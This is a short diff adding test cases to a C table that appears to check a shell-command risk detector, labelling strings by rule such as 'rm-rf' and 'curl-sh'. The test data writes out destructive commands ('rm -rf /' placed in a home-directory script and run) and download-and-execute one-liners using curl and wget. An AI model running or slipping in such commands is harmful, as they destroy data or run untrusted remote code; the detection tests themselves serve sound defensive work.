@@ -3886,6 +3886,11 @@ file_scripts(void)
 		{ "curl -o \"$T/i\" https://x/i; sh \"$T/i\"", C, "curl-sh" },
 		{ "f=/tmp/x; echo 'echo hi' > $f; sh $f", L, "echo" },
 		{ "echo 'rm -rf /' > $f; sh $g", L, "echo" },
+		/* ~ is $HOME */
+		{ "echo 'rm -rf /' > $HOME/s; sh ~/s", C, "rm-rf" },
+		{ "echo 'rm -rf /' > ~/s; sh \"${HOME}/s\"", C, "rm-rf" },
+		{ "echo 'rm -rf /' > ~/s; cd; sh s", C, "rm-rf" },
+		{ "echo 'rm -rf /' > $HOME/s; sh $HOME/t", L, "echo" },
 		/* wget -P DIR, curl --output-dir DIR: DIR/the URL's name */
 		{ "wget -P /tmp https://x/i.sh; sh /tmp/i.sh", C, "curl-sh" },
 		{ "wget -qP/tmp https://x/i.sh; sh /tmp/i.sh", C, "curl-sh" },
